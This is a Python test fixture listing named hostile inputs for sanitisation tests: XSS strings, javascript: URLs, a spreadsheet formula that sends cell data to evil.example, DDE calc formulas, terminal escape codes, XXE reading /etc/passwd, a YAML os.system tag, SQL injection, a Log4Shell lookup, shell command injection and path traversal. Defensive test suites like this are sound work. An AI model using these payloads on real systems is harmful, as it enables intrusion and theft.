"""Hostile texts, each with a name: what an article, a gazetteer or a link may hold.

Those for scripts set `window.ran` where they run; those for a server would ask `evil.example`.
"""

from __future__ import annotations

_CALL = "https://evil.example/"

SCRIPTS = {
    "script": "<script>window.ran=1</script>",
    "script closed first": "</script><script>window.ran=1</script>",
    "script in a comment": "<!--<script>window.ran=1//--></script>",
    "script in capitals": "<ScRiPt\t>window.ran=1</sCrIpT\n>",
    "script from a server": f'<script src="{_CALL}x.js"></script>',
    "image that fails": "<img src=x onerror=window.ran=1>",
    "image without end": '<img src="x" onerror="window.ran=1" ',
    "svg": "<svg/onload=window.ran=1>",
    "svg in math": "<math><mtext></p><svg onload=window.ran=1>",
    "details": "<details open ontoggle=window.ran=1>",
    "iframe": '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    "object": f'<object data="{_CALL}o"></object><embed src="{_CALL}e">',
    "base": f'<base href="{_CALL}">',
    "meta refresh": f'<meta http-equiv=refresh content="0;url={_CALL}">',
    "link": f'<link rel=stylesheet href="{_CALL}s.css">',
    "style": f"<style>*{{background:url({_CALL})}}</style>",
    "style closed first": "</style><script>window.ran=1</script>",
    "form": f'<form action="{_CALL}"><button>Next</button></form>',
    "textarea closed first": "</textarea><script>window.ran=1</script>",
    "title closed first": "</title><script>window.ran=1</script>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
    "template": "<template shadowrootmode=open><script>window.ran=1</script></template>",
    "attribute in double quotes": '" onmouseover="window.ran=1" x="',
    "attribute in single quotes": "' onmouseover='window.ran=1' x='",
    "attribute without quotes": "x onfocus=window.ran=1 autofocus tabindex=0",
    "entities": "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "entities in numbers": "&#60;script&#62;window.ran=1&#60;/script&#62;&#0;&#x110000;",
    "template literal": "${window.ran=1}`${window.ran=1}`",
    "string in double quotes": '";window.ran=1;//',
    "string in single quotes": "';window.ran=1;//",
    "backslashes": "\\\\' \\\" \\2019 \\u003cscript>window.ran=1</script> \\",
    "JSON in JSON": '"}]}</script><script>window.ran=1</script>{"a":["',
    "line separators": "one\u2028window.ran=1\u2029two",
    "template of Jinja": "{{ 7 * 7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "template of Angular": "{{constructor.constructor('window.ran=1')()}}",
    "prototype": "__proto__",
    "constructor": "constructor",
    "byte order mark": "\ufeff<script>window.ran=1</script>",
    "UTF-7": "+ADw-script+AD4-window.ran=1+ADw-/script+AD4-",
}
ADDRESSES = {
    "javascript:": "javascript:window.ran=1",
    "javascript: in capitals": "JaVaScRiPt:window.ran=1//",
    "javascript: broken by a tab": "java\tscript:window.ran=1",
    "javascript: after a control": "\x01javascript:window.ran=1",
    "data:": "data:text/html,<script>parent.ran=1</script>",
    "vbscript:": "vbscript:MsgBox(1)",
    "file:": "file:///etc/passwd",
    "without a scheme": "//evil.example/x",
    "a user before the host": "https://news.example@evil.example/",
    "a host that looks like another": "https://nеws.example/",
    "quotes in the address": 'https://news.example/" onclick="window.ran=1',
}
FORMULAS = {
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "formula after plus": "+cmd|' /C calc'!A0",
    "formula after minus": "-2+3+cmd|' /C calc'!A0",
    "formula after at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a line end": "\n=1+1",
    "formula full width": "＝1+1",
    "cell and row ended": 'a"\n"b,c;d\te',
}
TERMINALS = {
    "colour": "\x1b[31mred\x1b[0m",
    "screen cleared": "\x1b[2J\x1b[H",
    "title of the window": "\x1b]0;owned\x07",
    "link of the terminal": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "device asked": "\x1b[6n\x1bP$q\x1b\\",
    "eight bits": "\x9b31mred\x9d0;owned\x9c",
    "line written over": "Rutba was not taken\rRutba was taken\x08\x08\x08\x08\x08",
    "direction turned": "Rutba \u202enekat saw\u202c",
    "direction isolated": "\u2067Rutba\u2066\u2069",
    "null": "Rut\x00ba",
    "invisible letters": "Ru\u200bt\u2060b\ufeffa",
    "piled accents": "R" + "\u0301\u0489\u035c" * 60,
    "halves of characters": "\ud83d\ude00 \udc80",
    "no characters": "\ufffe\uffff\U0010ffff",
}
MARKDOWN = {
    "link of Markdown": "[click](javascript:window.ran=1)",
    "image of Markdown": "![x](https://evil.example/x.png)",
    "address of Markdown": "<https://evil.example/>",
    "reference of Markdown": "[x][y]\n\n[y]: https://evil.example/",
    "heading of Markdown": "# Retaken\nRetaken\n===",
    "list of Markdown": "1. one\n- two\n* three\n> four",
    "fence of Markdown": "```html\n<script>window.ran=1</script>\n```",
    "table of Markdown": "| a | b |\n|---|---|\n| c | d |",
    "emphasis of Markdown": "**not** _taken_ ~~taken~~ `code` \\*",
}
MARKUP = {
    "CDATA ended": "]]><script>window.ran=1</script>",
    "entity declared": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "instruction of XML": '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
    "folder of KML": "</description></Placemark><Folder>",
}
OTHERS = {
    "tag of YAML": "!!python/object/apply:os.system ['true']",
    "anchor of YAML": "&a [*a, *a]",
    "documents of YAML": "---\na: 1\n...\n%YAML 9",
    "format of Python": "{0.__class__} %s %n %(x)s",
    "query of SQL": "'; DROP TABLE captures; --",
    "lookup of a logger": "${jndi:ldap://evil.example/a}",
    "command of a shell": "$(touch /tmp/ran) `touch /tmp/ran`; touch /tmp/ran",
    "path upwards": "../../../../etc/passwd",
    "path of Windows": "..\\..\\CON",
    "endless pattern": "(a+)+$" + "a" * 60 + "!",
    "pattern of everything": ".*[\\s\\S]*(?:)",
    "long word": "A" * 5_000,
}
PAYLOADS = {
    **SCRIPTS,
    **ADDRESSES,
    **FORMULAS,
    **TERMINALS,
    **MARKDOWN,
    **MARKUP,
    **OTHERS,
}
"""All of them by name."""
